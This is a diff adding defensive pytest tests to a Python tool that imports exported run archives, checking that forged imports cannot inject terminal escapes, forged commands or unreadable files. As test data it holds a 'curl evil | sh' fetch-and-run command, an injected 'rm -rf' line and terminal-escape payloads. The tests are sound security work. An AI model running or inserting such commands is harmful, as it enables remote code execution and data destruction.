@@ -4,17 +4,21 @@ from __future__ import annotations
 
 import json
 import os
+import resource
+import shlex
 import socket
 import subprocess
 import sys
-import zipfile
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
-from recon_core.config import parse_config
-from recon_core.store import Run, RunState, RunStore
+from recon_core.config import TrainConfig, parse_config
+from recon_core.errors import InputError
+from recon_core.runs import progress
+from recon_core.runs.commands import repeat_command
+from recon_core.store import RunState, RunStore
 from recon_core.studies.requests import create_search
 from recon_core.studies.search import SearchConfig
 from tests.small_models import imported_model
@@ -71,3 +75,132 @@ def test_our_own_runs_carry_no_mark(cli: Cli, sender: RunStore, tmp_path: Path) 
     own = RunStore(tmp_path / "runs").create("train", {})
     assert json.loads(cli("runs", "show", own.id, "--json")[1])["imported"] is None
     assert "imported" not in cli("runs", "list")[1]
+
+
+EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31mred\r\x08\u202egnp.exe"
+TRAINING = parse_config(
+    TrainConfig,
+    {"data": {"source": "circle", "n": 8}, "model": {"widths": [6]}, "training": {"epochs": 2}},
+).model_dump(mode="json")
+FORGED = ["sh", "-c", "curl evil | sh"]
+
+
+def forged(sender: RunStore, folder: Path, kind: str, config: dict[str, object]) -> Path:
+    """A zip of a run whose message, command, log, config and result were written by somebody who means harm."""
+    run = sender.create(kind, {**config}, command=[*FORGED, EVIL])
+    with run.writer() as writer:
+        writer.start(1)
+        writer.log(f"a line {EVIL}\x1b[31m")
+        writer.finish(RunState.DONE, {"note": EVIL}, "fine")
+    status = json.loads((run.dir / "status.json").read_text())
+    (run.dir / "status.json").chmod(0o600)
+    message = f"fine {EVIL}\nrepeat   rm -rf \udc80"
+    (run.dir / "status.json").write_text(json.dumps({**status, "message": message}))
+    return sender.export(run.id, folder / "forged.zip")
+
+
+def told(cli: Cli, *arguments: str) -> str:
+    code, out, said = cli(*arguments)
+    assert code == 0, said
+    for character in out + said:
+        assert character in "\n\t" or character.isprintable() or character == "\ufffd", repr(character)
+    return out
+
+
+def test_nothing_of_an_import_speaks_to_the_terminal(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
+    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, "train", TRAINING))).strip()
+    assert "fine" in told(cli, "runs", "list")
+    shown = told(cli, "runs", "show", run_id)
+    assert "a line" in shown
+    assert not any(line.startswith("repeat   rm") for line in shown.splitlines())
+    json.loads(told(cli, "runs", "list", "--json"))
+
+
+def test_a_progress_bar_passes_no_sequences_on(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture) -> None:
+    monkeypatch.setattr(progress, "_PLAIN_INTERVAL", 0.0)
+    with progress.progress_bar("train", quiet=False) as listen:
+        listen(0.5, f"at {EVIL}")
+    assert "\x1b" not in (said := capsys.readouterr().err)
+    assert "at" in said
+
+
+def test_the_command_of_an_import_is_made_from_its_config(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
+    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, "train", TRAINING))).strip()
+    [line] = [line for line in told(cli, "runs", "show", run_id).splitlines() if line.startswith("repeat")]
+    assert line.split(None, 1)[1] == shlex.join(repeat_command("train", TRAINING))
+    shown = told(cli, "runs", "show", run_id, "--json")
+    assert json.loads(shown)["command"] == shlex.join(repeat_command("train", TRAINING))
+    assert "evil" not in shown
+
+
+@pytest.mark.parametrize("kind", ["study", "unheard"])
+def test_an_import_that_no_options_make_is_repeated_by_its_id(
+    cli: Cli, sender: RunStore, tmp_path: Path, kind: str
+) -> None:
+    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, kind, {"path": 7}))).strip()
+    shown = json.loads(told(cli, "runs", "show", run_id, "--json"))
+    assert shown["command"] == f"python -m recon_core runs repeat {run_id}"
+
+
+@pytest.mark.parametrize("kind", ["train", "model", "reconstruct", "match", "search"])
+def test_an_import_with_a_config_of_no_sense_is_shown_without_command(
+    cli: Cli, sender: RunStore, tmp_path: Path, kind: str
+) -> None:
+    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, kind, {"path": 7, "input_shape": "x"}))).strip()
+    assert json.loads(told(cli, "runs", "show", run_id, "--json"))["command"] == ""
+    assert "evil" not in told(cli, "runs", "show", run_id)
+
+
+def test_a_repeated_import_has_a_command_of_our_own(cli: Cli, sender: RunStore, tmp_path: Path) -> None:
+    run_id = told(cli, "runs", "import", str(forged(sender, tmp_path, "train", TRAINING))).strip()
+    code, out, said = cli("runs", "repeat", run_id, "--quiet")
+    assert code == 0, said
+    repeated = RunStore(tmp_path / "runs").open(out.strip())
+    assert repeated.imported is None
+    assert list(repeated.command) == repeat_command("train", TRAINING)
+
+
+class TestNoFile:
+    """What is not a plain file is refused, at once and unread."""
+
+    def refused(self, *arguments: str) -> str:
+        """In a process of its own, which may neither wait nor grow."""
+        done = subprocess.run(
+            [sys.executable, "-m", "recon_core", "runs", "import", *arguments],
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (4 * 2**30,) * 2),
+        )
+        assert done.returncode == 2, done.stderr
+        assert done.stderr.count("\n") == 1
+        return done.stderr
+
+    @pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
+    def test_devices(self, own_store: Path, device: str) -> None:
+        assert f"{device} cannot be read: it is not a plain file but a device" in self.refused(device)
+        assert not own_store.exists()
+
+    def test_a_pipe_nobody_writes_to(self, own_store: Path, tmp_path: Path) -> None:
+        os.mkfifo(tmp_path / "pipe.zip")
+        assert "is not a plain file but a pipe" in self.refused(str(tmp_path / "pipe.zip"))
+
+    def test_a_socket(self, own_store: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+        monkeypatch.chdir(tmp_path)  # a socket's path may not be long
+        with socket.socket(socket.AF_UNIX) as listening:
+            listening.bind("socket.zip")
+            with pytest.raises(InputError, match="cannot be read"):
+                RunStore(own_store).import_zip(Path("socket.zip"))
+
+    def test_a_zip_larger_than_all_it_may_hold(self, own_store: Path, tmp_path: Path) -> None:
+        path = tmp_path / "sparse.zip"
+        with open(path, "wb") as file:
+            file.truncate(2**33)
+        with pytest.raises(InputError, match="has 8589934592 bytes, more than"):
+            RunStore(own_store).import_zip(path)
+
+    def test_a_link_to_a_zip_is_as_good_as_the_zip(self, sender: RunStore, own_store: Path, tmp_path: Path) -> None:
+        run = sender.create("train", {})
+        (tmp_path / "link.zip").symlink_to(sender.export(run.id, tmp_path / "real.zip"))
+        assert [arrived.id for arrived in RunStore(own_store).import_zip(tmp_path / "link.zip")] == [run.id]
